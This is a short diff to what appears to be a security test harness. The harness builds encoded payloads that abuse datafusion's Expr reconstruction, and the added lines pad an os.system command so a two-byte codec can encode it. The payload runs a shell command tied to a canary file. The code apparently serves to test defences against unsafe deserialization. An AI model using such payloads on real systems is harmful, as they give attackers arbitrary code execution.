@@ -702,6 +702,8 @@ def r_expr_payload_encoded(encoding: str, errors: str = "") -> Callable[[Path], 
 
     def build(canary: Path) -> bytes:
         hostile = in_udf("scalar", system_plain)(canary)
+        if len(hostile) % 2:  # a 2-byte codec needs an even length: one more space in the command
+            hostile = in_udf("scalar", lambda a, c: a(call(g("os", "system"), s(cmd(c) + " "))))(canary)
         text = hostile.decode(encoding, errors or "strict")
         reconstruct = getattr_(g("datafusion.expr", "Expr"), "_reconstruct")
         encoded = call(g("_codecs", "encode"), s(text), s(encoding), *([s(errors)] if errors else []))
